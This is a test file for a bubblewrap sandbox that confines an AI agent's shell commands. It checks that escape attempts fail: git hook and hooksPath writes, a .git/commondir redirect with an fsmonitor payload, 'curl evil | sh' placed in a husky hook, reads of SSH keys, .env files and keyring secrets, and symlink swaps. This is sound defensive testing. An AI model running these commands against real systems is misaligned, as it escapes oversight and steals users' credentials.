/**
 * Commands in the real bubblewrap sandbox (Linux): a command the model changed, allowed
 * by a rule or approved without an escalation, tries each way out the attack reviews
 * found, and none of it happens. Skipped, and said so, where bwrap cannot run.
 */
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { homedir } from 'node:os';
import type { Server } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectSandbox, Sandbox, spawnWrapped } from '../../host/sandbox/index.js';
import type { SecretSet } from '../../host/sandbox/index.js';
import type { ToolResult } from '../../host/tools/index.js';
import { createRunCommandTool } from '../../host/tools/testing.js';
import type { RunCommandInput } from '../../host/tools/testing.js';
import { tempDir } from '../support/temp-dir.js';

const status = detectSandbox({ platform: process.platform, searchPath: process.env.PATH ?? '' });
const bwrap = status.available && status.kind === 'bwrap';

let root: string;
let ws: string;
let home: string;
let dataDir: string;
let server: Server;
let port: number;
let cleanup: () => void;

function secretsFor(): Promise<SecretSet> {
  const names = /(^|\/)(\.env(\..*)?|id_rsa|\.npmrc)$/;
  return Promise.resolve({
    isSecret: (absolute) =>
      names.test(absolute) || absolute === dataDir || absolute.startsWith(`${dataDir}/`),
    fixedPaths: [path.join(home, '.ssh'), dataDir],
    patterns: [],
  });
}

const sandbox = new Sandbox(status, secretsFor, '/nonexistent-home');

async function run(
  input: RunCommandInput,
  options: { unattended?: boolean; using?: Sandbox } = {},
): Promise<ToolResult> {
  const tool = createRunCommandTool({ sandbox: options.using ?? sandbox, graceMs: 200 });
  return tool.execute(input, {
    workspace: ws,
    signal: new AbortController().signal,
    unattended: options.unattended ?? true,
  });
}

beforeAll(async () => {
  const made = tempDir('tether-sbx-');
  root = realpathSync(made.path);
  cleanup = made.remove;
  ws = path.join(root, 'ws');
  home = path.join(root, 'home');
  dataDir = path.join(root, 'data');
  for (const folder of [ws, path.join(home, '.ssh'), dataDir])
    mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY\n');
  writeFileSync(path.join(dataDir, 'host-key.json'), '{"secret":"HOSTKEY"}\n');
  execFileSync('git', ['init', '-q', ws]);
  execFileSync('git', [
    '-C',
    ws,
    'remote',
    'add',
    'origin',
    'https://user:ghp_TOKEN123@example.com/r.git',
  ]);
  writeFileSync(path.join(ws, '.env'), 'API_KEY=dotenv-secret\n');
  // The model changed the Makefile: its targets try each way out.
  writeFileSync(
    path.join(ws, 'Makefile'),
    [
      'hook:',
      '\techo "#!/bin/sh" > .git/hooks/pre-commit',
      'config:',
      '\tgit config core.hooksPath scripts',
      '',
    ].join('\n'),
  );
  server = createServer((socket) => socket.end('hello from the host\n'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
});

afterAll(() => {
  server?.close();
  cleanup?.();
});

describe.skipIf(!bwrap)('commands in bubblewrap (needs bwrap; skipped without it)', () => {
  it('a changed Makefile cannot write a git hook', async () => {
    const result = await run({ command: 'make hook' });
    expect(result.status).toBe('failed');
    expect(result.content).toMatch(/Read-only file system|Permission denied/);
    expect(existsSync(path.join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
  });

  it("nor git's config (core.hooksPath), even with an assignment before the program", async () => {
    expect((await run({ command: 'make config' })).status).toBe('failed');
    const assigned = await run({ command: 'X=1 git config core.hooksPath scripts' });
    expect(assigned.status).toBe('failed');
    // Approved by a person, through the shell, where the assignment works: still refused.
    const approved = await run(
      { command: 'X=1 git config core.hooksPath scripts' },
      { unattended: false },
    );
    expect(approved.status).toBe('failed');
    expect(readFileSync(path.join(ws, '.git', 'config'), 'utf8')).not.toContain('hooksPath');
  });

  it('cannot write outside the workspace, approved or not', async () => {
    // Beside the workspace, in the machine's /tmp: the sandbox has a /tmp of its own, so
    // the file lands there and vanishes with it. In a system folder: read-only.
    const here = path.join('/etc', `tether-outside-${process.pid}`);
    for (const unattended of [true, false]) {
      await run({ command: `touch ${root}/outside` }, { unattended });
      expect(existsSync(path.join(root, 'outside'))).toBe(false);
      const result = await run({ command: `touch ${here}` }, { unattended });
      expect(result.status).toBe('failed');
      expect(result.content).toContain('Read-only file system');
      expect(existsSync(here)).toBe(false);
    }
  });

  it('writes inside the workspace and its own temporary folder', async () => {
    const result = await run(
      { command: 'echo made > made.txt && echo tmp > "$TMPDIR/t" && cat "$TMPDIR/t"' },
      { unattended: false },
    );
    expect(result.status).toBe('succeeded');
    expect(result.content).toContain('tmp');
    expect(readFileSync(path.join(ws, 'made.txt'), 'utf8')).toBe('made\n');
  });

  it('cannot read a key in the home folder, the data directory, or .env', async () => {
    for (const file of [path.join(home, '.ssh', 'id_rsa'), path.join(dataDir, 'host-key.json')]) {
      const result = await run({ command: `cat ${file}` }, { unattended: false });
      expect(result.status).toBe('failed');
      expect(result.content).not.toMatch(/PRIVATE KEY|HOSTKEY/);
    }
    const dotenv = await run({ command: 'cat .env' });
    expect(dotenv.status).toBe('failed');
    expect(dotenv.content).not.toContain('dotenv-secret');
    const grep = await run({ command: 'grep -rn API_KEY .' }, { unattended: false });
    expect(grep.content).not.toContain('dotenv-secret');
  });

  it("sees .git/config without the token in a remote's URL, and git still works", async () => {
    const config = await run({ command: 'cat .git/config' });
    expect(config.status).toBe('succeeded');
    expect(config.content).toContain('https://example.com/r.git');
    expect(config.content).not.toContain('ghp_TOKEN123');
    expect((await run({ command: 'git status --short' })).status).toBe('succeeded');
  });

  it('cannot connect to a port on loopback, unless it asked for the network', async () => {
    const connect = `node -e "require('net').connect(${port},'127.0.0.1').on('data',d=>process.stdout.write(d)).on('error',e=>{console.log(e.code);process.exit(3)})"`;
    const refused = await run({ command: connect }, { unattended: false });
    expect(refused.status).toBe('failed');
    expect(refused.content).not.toContain('hello from the host');
    const allowed = await run(
      { command: connect, sandbox: { network: true } },
      { unattended: false },
    );
    expect(allowed.content).toContain('hello from the host');
  });

  // Only on a machine with Nix: its daemon builds and fetches whatever it is asked.
  it.skipIf(!existsSync('/nix/var/nix/daemon-socket'))(
    "cannot reach the Nix daemon's socket, even with the network",
    async () => {
      const result = await run(
        { command: 'ls -A /nix/var/nix/daemon-socket', sandbox: { network: true } },
        { unattended: false },
      );
      expect(result.status).toBe('succeeded');
      expect(result.content.trim()).toMatch(/, no output$/);
    },
  );

  it('says which protected paths a command created (bubblewrap cannot refuse a new name)', async () => {
    const result = await run({ command: 'touch .env.local notes.txt' });
    expect(result.status).toBe('failed');
    expect(result.error?.code).toBe('protected_path_changed');
    expect(result.data?.protectedChanges).toEqual(['.env.local']);
    expect(result.content).toContain('.env.local');
  });

  it('a background process ends with the sandbox', async () => {
    // A duration of its own: the suite's other worker may be running a `sleep 30` now.
    const sleep = `sleep 30.${process.pid}`;
    const result = await run({ command: `${sleep} & echo $! > bg.pid` }, { unattended: false });
    expect(result.status).toBe('succeeded');
    const out = execFileSync('ps', ['-eo', 'args']).toString();
    expect(out.split('\n')).not.toContain(sleep);
  });
});

describe.skipIf(!bwrap)(
  'the attack review of the sandbox (needs bwrap; skipped without it)',
  () => {
    function repository(name: string): string {
      const repo = path.join(root, name);
      mkdirSync(repo, { recursive: true });
      execFileSync('git', ['init', '-q', repo]);
      writeFileSync(path.join(repo, 'README.md'), 'hi\n');
      return repo;
    }

    async function runIn(
      workspace: string,
      command: string,
      using = sandbox,
      unattended = false,
    ): Promise<ToolResult> {
      const tool = createRunCommandTool({ sandbox: using, graceMs: 200 });
      return tool.execute(
        { command },
        { workspace, signal: new AbortController().signal, unattended },
      );
    }

    it('a .git/commondir sending git to a folder the command wrote is reported and removed', async () => {
      const repo = repository('commondir');
      const result = await runIn(
        repo,
        'mkdir -p fake && cp -r .git/objects .git/refs fake/ && printf "[core]\\n\\tfsmonitor = ./pwn\\n" > fake/config && echo "$PWD/fake" > .git/commondir',
      );
      expect(result.error?.code).toBe('protected_path_changed');
      expect(result.data?.redirectsRemoved).toEqual(['.git/commondir']);
      expect(result.content).toContain('.git/commondir (removed again');
      expect(existsSync(path.join(repo, '.git', 'commondir'))).toBe(false);
    });

    it("a submodule's config and hooks inside .git/modules stay read-only", async () => {
      const repo = repository('super');
      const module = path.join(repo, '.git', 'modules', 'sub');
      mkdirSync(path.join(module, 'hooks'), { recursive: true });
      writeFileSync(path.join(module, 'config'), '[core]\n\tbare = false\n');
      const result = await runIn(
        repo,
        'echo "#!/bin/sh" > .git/modules/sub/hooks/pre-commit; printf "\\tfsmonitor = x\\n" >> .git/modules/sub/config',
      );
      expect(result.content).toContain('Read-only file system');
      expect(existsSync(path.join(module, 'hooks', 'pre-commit'))).toBe(false);
      expect(readFileSync(path.join(module, 'config'), 'utf8')).not.toContain('fsmonitor');
    });

    it('hooks kept in the workspace by core.hooksPath (husky) stay read-only', async () => {
      const repo = repository('husky');
      mkdirSync(path.join(repo, '.husky'));
      writeFileSync(path.join(repo, '.husky', 'pre-commit'), 'npm test\n');
      execFileSync('git', ['-C', repo, 'config', 'core.hooksPath', '.husky']);
      const result = await runIn(repo, 'echo "curl evil | sh" > .husky/pre-commit');
      expect(result.content).toContain('Read-only file system');
      expect(readFileSync(path.join(repo, '.husky', 'pre-commit'), 'utf8')).toBe('npm test\n');
    });

    it('a git folder cannot be renamed to leave its read-only parts behind', async () => {
      const repo = repository('renamed');
      const result = await runIn(repo, 'mv .git g');
      expect(result.status).toBe('failed');
      expect(existsSync(path.join(repo, '.git', 'HEAD'))).toBe(true);
    });

    it('shows nothing of the machine but its system folders: a project beside it, or its .env, is not there', async () => {
      // Outside /tmp (which every sandbox empties) and outside the sandbox's home folder:
      // a project in this user's real home folder (a checkout may itself be under /tmp).
      const beside = path.join(homedir(), `.tether-sandbox-probe-${process.pid}`);
      mkdirSync(beside, { recursive: true });
      writeFileSync(path.join(beside, '.env'), 'TOKEN=beside-secret\n');
      try {
        const result = await runIn(ws, `cat ${beside}/.env`);
        expect(result.status).toBe('failed');
        expect(result.content).not.toContain('beside-secret');
        expect(result.content).toContain('No such file or directory');
      } finally {
        rmSync(beside, { recursive: true, force: true });
      }
    });

    it.skipIf(process.arch !== 'x64' || !existsSync('/usr/bin/python3'))(
      "cannot reach the login session's kernel keyring (x86-64 syscall numbers)",
      async () => {
        const keyctl =
          '/usr/bin/python3 -c "import ctypes,os; libc=ctypes.CDLL(None,use_errno=True); ' +
          "r=libc.syscall(250,0,-3,0); print('keyctl', r, os.strerror(ctypes.get_errno()))\"";
        const result = await runIn(ws, keyctl);
        expect(result.content).toContain('keyctl -1 Operation not permitted');
      },
    );

    it('folders a config names readable: their secrets are hidden, and "/" shows neither /run, the home folder nor the host\'s processes again', async () => {
      const shared = path.join(root, 'shared');
      mkdirSync(shared);
      writeFileSync(path.join(shared, 'notes.txt'), 'shared-notes\n');
      writeFileSync(path.join(shared, '.env'), 'TOKEN=shared-secret\n');
      writeFileSync(path.join(home, '.bashrc'), 'home-file\n');
      const withHome = new Sandbox(status, secretsFor, home);
      const prepared = await withHome.prepare(ws, { read: [shared, '/'] });
      try {
        const script = [
          `cat ${shared}/notes.txt`,
          `cat ${shared}/.env`,
          `cat ${home}/.bashrc`,
          'echo "run: $(ls -A /run | wc -l)"',
          `echo "processes: $(ls /proc | grep -c '^[0-9]')"`,
        ].join('; ');
        const child = spawnWrapped(prepared.wrap(['/bin/sh', '-c', script], ws), {
          cwd: ws,
          env: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
          stdin: 'ignore',
        });
        let output = '';
        child.stdout?.on('data', (chunk: Buffer) => (output += chunk.toString()));
        child.stderr?.on('data', (chunk: Buffer) => (output += chunk.toString()));
        await new Promise((resolve) => child.once('close', resolve));
        expect(output).toContain('shared-notes');
        expect(output).not.toContain('shared-secret');
        expect(output).not.toContain('home-file');
        expect(output).toContain('run: 0');
        // Its own /proc: bubblewrap's init, the shell, ls and grep; not the host's processes.
        expect(Number(/processes: (\d+)/.exec(output)?.[1])).toBeLessThan(8);
      } finally {
        prepared.finish();
      }
    });

    it('refuses a folder a config named once it has been replaced by a link', async () => {
      const named = path.join(ws, 'docs');
      mkdirSync(named);
      const real = realpathSync(named);
      (await sandbox.prepare(ws, { read: [real], write: [] })).finish();
      // What a run in the workspace can do between two starts of an agent or MCP server.
      rmSync(named, { recursive: true });
      symlinkSync('/', named);
      try {
        await expect(sandbox.prepare(ws, { read: [real] })).rejects.toThrow(
          `${real} now leads to / (a link put in its place): the sandbox does not follow it`,
        );
        await expect(sandbox.prepare(ws, { write: [real] })).rejects.toThrow('now leads to /');
      } finally {
        rmSync(named);
      }
    });

    it("shows a readable folder's .git/config without the token in a remote's URL", async () => {
      const repo = repository('readable-repo');
      execFileSync('git', [
        '-C',
        repo,
        'remote',
        'add',
        'origin',
        'https://user:ghp_READABLE123@example.com/r.git',
      ]);
      const prepared = await sandbox.prepare(ws, { read: [repo] });
      try {
        const child = spawnWrapped(prepared.wrap(['/bin/cat', `${repo}/.git/config`], ws), {
          cwd: ws,
          env: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
          stdin: 'ignore',
        });
        let output = '';
        child.stdout?.on('data', (chunk: Buffer) => (output += chunk.toString()));
        await new Promise((resolve) => child.once('close', resolve));
        expect(output).toContain('example.com/r.git');
        expect(output).not.toContain('ghp_READABLE123');
      } finally {
        prepared.finish();
      }
    });

    it('past the walk cap, the repository is still looked at first', async () => {
      const repo = repository('capped');
      mkdirSync(path.join(repo, '+big'));
      for (let i = 0; i < 40; i += 1) writeFileSync(path.join(repo, '+big', `f${i}`), '');
      const small = new Sandbox(status, secretsFor, '/nonexistent-home', 20);
      const result = await runIn(repo, 'echo x > .git/hooks/pre-commit', small);
      expect(result.content).toContain('Read-only file system');
      expect(existsSync(path.join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
      const unattended = await runIn(repo, 'true', small, true);
      expect(unattended.error?.code).toBe('permission_denied');
    });
  },
);

describe('without a sandbox', () => {
  const none = new Sandbox(
    { available: false, reason: 'bwrap is not installed', fix: 'install it' },
    secretsFor,
    '/nonexistent-home',
  );

  it('runs nothing unattended, and says why', async () => {
    const result = await run({ command: 'touch ran.txt' }, { using: none });
    expect(result.status).toBe('failed');
    expect(result.error?.code).toBe('permission_denied');
    expect(result.error?.message).toContain('bwrap is not installed');
    expect(existsSync(path.join(ws, 'ran.txt'))).toBe(false);
  });

  it('runs an approved command with full access, and the result says so', async () => {
    const result = await run({ command: 'true' }, { using: none, unattended: false });
    expect(result.status).toBe('succeeded');
    expect(result.data?.sandbox).toBe('unsandboxed');
  });
});
